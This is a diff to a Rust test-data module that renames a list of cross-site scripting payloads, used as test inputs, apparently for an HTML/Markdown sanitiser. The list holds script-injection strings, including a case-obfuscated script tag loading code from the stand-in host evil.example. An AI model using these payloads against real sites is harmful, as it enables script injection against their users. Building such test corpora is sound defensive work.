@@ -1,7 +1,7 @@
-//! For tests: texts that try to bring script onto a page.
+//! Test data: XSS vectors, inputs that try to inject script into a page.
 
-/// Ways to run script that have worked somewhere.
-pub(crate) const VECTORS: &[&str] = &[
+/// Known XSS payloads, as HTML and as Markdown.
+pub(crate) const XSS_VECTORS: &[&str] = &[
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/a.js></sCrIpT>",
     "<script\n>alert(1)</script\n>",
